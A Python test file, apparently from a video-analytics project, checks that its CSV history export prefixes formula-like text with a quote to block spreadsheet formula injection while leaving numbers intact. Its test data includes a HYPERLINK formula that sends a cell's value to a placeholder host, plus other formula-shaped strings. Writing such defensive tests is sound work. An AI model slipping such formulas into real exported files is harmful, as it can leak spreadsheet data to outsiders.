"""``segcast history export`` to CSV: text a user chose never runs as a spreadsheet formula; numbers stay numbers.

A stream id, zone or line name someone typed, or a class name from a custom model, went into the CSV as it
was: one beginning with ``=`` (``=HYPERLINK(...)``), ``+``, ``-`` or ``@`` ran as a formula in Excel or
LibreOffice when the file was opened (CSV injection, OWASP).
"""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from server.events.config import EventsSettings, HistorySettings
from server.events.history.export import ExportFormat, Selection, export_history
from server.events.outputs import EventOutputs
from tests.support.event_packets import with_events
from tests.support.polling import eventually

#: 2026-01-01T00:00:00Z, with the history keeping events that old.
T0 = 1767225600.0
KEEP_DAYS = 36500.0
LINK = '=HYPERLINK("https://example.com/?leak="&A1,"open")'


@pytest.fixture
async def outputs(tmp_path: Path) -> AsyncIterator[EventOutputs]:
    outputs = EventOutputs(EventsSettings(history=HistorySettings(tmp_path / "events.db", max_age_days=KEEP_DAYS)))
    await outputs.start()
    yield outputs
    await outputs.stop()


async def stored(outputs: EventOutputs, stream_id: str, *events: dict[str, Any]) -> Path:
    """Store ``events`` of ``stream_id`` in the history; its file."""
    history = outputs.history
    assert history is not None
    outputs.on_packet(with_events(1, list(events), stream_id=stream_id))

    async def all_stored() -> bool:
        return history.health().delivered == len(events)

    await eventually(all_stored, what=f"{len(events)} events stored")
    return history.settings.path


def exported(history: Path, out: Path) -> list[dict[str, str]]:
    export_history(history, out, Selection(), ExportFormat.CSV)
    with out.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


async def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_are_not(
    outputs: EventOutputs, tmp_path: Path
) -> None:
    # Given events whose zone, line, class and stream were named like formulas, and fields that are negative numbers
    entered = {
        "type": "zone_enter",
        "v": 1,
        "id": 7,
        "class_id": 0,
        "class": "+person",
        "zone": LINK,
        "time": T0,
        "media_time": -2.5,
    }
    crossed = {
        "type": "line_cross",
        "v": 1,
        "id": -3,
        "class": "@SUM(1+1)",
        "line": "\tgate",
        "direction": "in",
        "time": T0 + 1.0,
        "media_time": 1.0,
        "heading": "=1+1",
    }
    history = await stored(outputs, "-door", entered, crossed)

    # When the history is exported as CSV
    enter, cross = exported(history, tmp_path / "events.csv")

    # Then each text cell that begins as a formula does is written with a ' before it
    assert (enter["zone"], enter["class"], enter["stream"]) == (f"'{LINK}", "'+person", "'-door")
    assert (cross["class"], cross["line"], cross["direction"]) == ("'@SUM(1+1)", "'\tgate", "in")
    # And numbers, negative ones too, are numbers; JSON in data begins with { whatever it holds
    assert (enter["media_time_s"], cross["track_id"], enter["class_id"]) == ("-2.5", "-3", "0")
    assert cross["data"] == '{"heading":"=1+1"}'
